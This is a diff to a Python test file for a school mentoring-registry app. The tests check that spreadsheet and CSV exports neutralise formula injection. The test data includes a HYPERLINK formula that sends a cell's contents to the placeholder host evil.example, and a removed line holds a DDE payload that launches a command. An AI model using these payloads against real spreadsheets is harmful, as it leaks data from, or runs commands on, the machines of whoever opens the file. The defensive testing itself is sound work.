@@ -20,21 +20,23 @@ from docgen.model import dossier_from_data
 from docgen.participants import registry_xlsx, rollup_xlsx, sample_sheet
 from docgen.safe_cells import FORMULA_STARTS, csv_cell
 
+# Names take letters only (the model refuses «=», «+», «@» there: a first line of defence), so
+# what a school can type that a spreadsheet would run goes in the other columns.
 HOSTILE = {
-    "Фамилия наставника": '=HYPERLINK("http://evil.example/?d="&A1,"Иванов")',
-    "Имя наставника": "+1",
-    "Отчество наставника": "-2",
+    "Фамилия наставника": "Иванова",
+    "Имя наставника": "Мария",
+    "Отчество наставника": "Петровна",
     "Пол наставника": "ж",
-    "Должность наставника": "@SUM(A1:A9)",
-    "Фамилия наставляемого": "=1+1",
-    "Имя наставляемого": "=cmd|' /C calc'!A0",
-    "Отчество наставляемого": "-Петрович",
+    "Должность наставника": '=HYPERLINK("http://evil.example/?d="&A1,"учитель")',
+    "Фамилия наставляемого": "Кириллов",
+    "Имя наставляемого": "Артём",
+    "Отчество наставляемого": "Сергеевич",
     "Пол наставляемого": "м",
     "Класс/должность наставляемого": "+7 класс",
     "Форма наставничества": "учитель – ученик",
     "Начало": "01.09.2022",  # inside the demo dossier's school year
     "Окончание": "31.05.2023",
-    "Программа": "@Программа",
+    "Программа": "@SUM(A1:A9)",
 }
 INJECTED = [v for v in HOSTILE.values() if v.startswith(FORMULA_STARTS)]
 
@@ -99,7 +101,7 @@ def installation(tmp_path_factory):
     done = curator.post(f"/registry/dossiers/{dossier_id}/import/confirm", data=fields)
     assert done.status_code == 302
     data = curator.get(f"/api/v1/dossiers/{dossier_id}").get_json()["data"]
-    assert any(p["mentor"]["surname"] == HOSTILE["Фамилия наставника"] for p in data["pairs"])
+    assert any(p["mentor"].get("position") == HOSTILE["Должность наставника"] for p in data["pairs"])
     return app, curator, dossier_id
 
 
@@ -119,8 +121,8 @@ def test_the_schools_registry_holds_no_formula(installation):
     response = curator.get(f"/registry/dossiers/{dossier_id}/registry.xlsx")
     assert response.status_code == 200, response.get_data(as_text=True)[:500]
     values = [str(v) for v in assert_no_formula(response.data) if v is not None]
-    assert any(v.startswith(HOSTILE["Фамилия наставника"]) for v in values)
-    assert "@SUM(A1:A9)" in values
+    assert any(v.startswith(HOSTILE["Должность наставника"]) for v in values)
+    assert HOSTILE["Класс/должность наставляемого"] in values
 
 
 def test_the_audit_csv_neutralises_every_cell(installation):
@@ -144,8 +146,8 @@ def test_the_audit_csv_neutralises_every_cell(installation):
 def _dossier_with(names: list[str]):
     data = sample("gymnasium-20")
     for pair, name in zip(data["pairs"], names, strict=False):
-        pair["mentor"]["surname"] = name
-        pair["mentees"][0]["name"] = name
+        pair["mentor"]["position"] = name  # names take letters only; positions any text
+        pair["mentees"][0]["position"] = name
         pair["programme_title"] = name
     return dossier_from_data(data)
 
